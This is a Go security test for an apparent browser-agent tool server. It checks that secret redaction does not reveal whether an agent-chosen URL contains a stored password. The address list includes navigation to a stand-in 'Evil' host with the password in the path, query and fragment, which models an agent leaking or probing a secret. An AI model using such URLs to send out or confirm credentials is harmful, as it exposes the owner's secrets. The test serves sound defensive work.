package tools

import (
	"net/url"
	"strings"
	"testing"

	"browser-mcp/vault"
)

// An address that the agent gave is its own words: whether it holds the password must not be seen from how it is
// reported, under the filled origin or another, now or in a list later.
func TestThreatAskedAddressIsNotCompared(t *testing.T) {
	r := newRig(t).withSite()
	r.site.Page("/form.html", `<title>Form</title><input type="password" id="field" aria-label="It">`)
	r.site.Page("/"+humanPassword, `<title>There</title>`)
	r.site.Page("/untitled/"+humanPassword, `<p>There</p>`)
	r.shelf.put("it", vault.Password, humanPassword, "sbm:origin", r.site.Shop)
	a := r.connect()
	a.call("navigate", map[string]any{"url": r.site.Shop + "/form.html"})
	a.call("fill_secret", map[string]any{"secret_id": "it", "element_uid": uid(t, a.look(), `input password`)})
	var said strings.Builder
	for _, address := range []string{
		r.site.Shop + "/" + humanPassword, r.site.Evil + "/" + humanPassword + "?q=" + humanPassword + "#" + humanPassword,
		r.site.Shop + "/untitled/x/../" + humanPassword, r.site.Evil + "/untitled/" + url.PathEscape(humanPassword),
	} {
		said.WriteString(a.call("navigate", map[string]any{"url": address}).Text())
		said.WriteString(a.look())
		said.WriteString(a.call("list_tabs", nil).Text())
		said.WriteString(a.call("wait_for", map[string]any{"url": "/"}).Text())
	}
	said.WriteString(a.call("go_back", nil).Text())
	said.WriteString(a.call("list_network_requests", nil).Text())
	if got := said.String(); strings.Contains(got, "[REDACTED:it]") || strings.Contains(got, "[REDACTED]") {
		t.Errorf("what was said of the agent's own addresses: %s\nwant no marker of the secret in it", got)
	}
}
